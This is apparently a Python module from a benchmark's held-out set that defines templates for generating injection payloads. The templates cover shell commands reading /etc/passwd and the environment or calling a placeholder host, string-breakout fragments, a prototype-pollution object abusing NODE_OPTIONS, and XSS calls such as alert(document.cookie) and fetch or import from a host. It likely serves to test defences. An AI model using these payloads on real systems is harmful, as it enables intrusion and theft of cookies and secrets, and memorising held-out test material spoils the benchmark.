"""Rules of JavaScript on servers and in pages."""

from __future__ import annotations

from benchmarks.requests.heldout.words import COMMON

RULES = COMMON | {
    "cmd": ("id", "whoami", "ls -la", "cat /etc/‹passwd¦hosts›", "uname -a", "curl ‹@host›", "sleep ‹@n›", "nslookup ‹@host›", "env"),
    "out": ("", "';", "\";", "'+", "\"-", "‹@n›;", "1);", "');", "return ", "x||"),
    "end": ("", "//", ";//", "+'", "+\"", ";'"),
    "polluted": "{\"‹admin¦isAdmin¦shell¦env¦‹@tok››\":‹true¦1¦\"‹@tok›\"¦{\"NODE_OPTIONS\":\"--require /proc/self/environ\"}›}",
    "global": tuple("window self top parent this globalThis frames".split()),
    "js": ("alert(‹@n›)", "confirm(‹@n›)", "prompt`‹@n›`", "print()", "alert(document.‹domain¦cookie›)", "fetch('//‹@host›')", "import('//‹@host›')", "eval(name)", "alert`‹@tok›`"),
    "event": tuple("onload onerror onfocus ontoggle onpointerenter onanimationend onmouseover onbeforeinput onwheel onscrollend".split()),
    "tag": tuple("svg img details input video body marquee a-b iframe math select".split()),
}  # fmt: skip
